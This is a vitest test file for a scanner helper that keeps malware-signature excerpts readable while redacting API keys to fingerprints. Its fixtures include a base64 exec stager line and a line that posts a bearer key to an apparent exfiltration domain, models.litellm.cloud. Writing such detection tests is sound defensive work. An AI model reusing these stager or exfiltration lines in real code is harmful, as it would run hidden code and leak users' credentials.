import { describe, expect, it } from 'vitest';
import { safeSignatureHits } from './signature-excerpt.js';

// A key of OpenAI's shape, built here so no real-shaped key is committed.
const KEY = `sk-proj-${'Ab3'.repeat(30)}T3BlbkFJ${'Xy9'.repeat(20)}`;

describe('safeSignatureHits', () => {
  it("keeps the signature's own strings readable, even the stager blob that looks like a secret", () => {
    const [hit] = safeSignatureHits([{ signature: 'teampcp-litellm-stager', line: 3, excerpt: "exec(base64.b64decode('aW1wb3J0IG9z')) # kI2NF9TQ1JJUFQgPSAiYV" }]);

    expect(hit?.excerpt).toContain("exec(base64.b64decode('aW1wb3J0");
    expect(hit?.excerpt).toContain('kI2NF9TQ1JJUFQgPSAiYV');
  });

  it('replaces a key on the matched line with its fingerprint', () => {
    const [hit] = safeSignatureHits([{ signature: 'litellm-exfil-domain-in-code', line: 1, excerpt: `post("https://models.litellm.cloud/", headers={"Authorization": "Bearer ${KEY}"})` }]);

    expect(hit?.excerpt).toContain('models.litellm.cloud');
    expect(hit?.excerpt).not.toContain(KEY.slice(8, 30));
    expect(hit?.excerpt).toContain('[redacted openai:');
  });
});
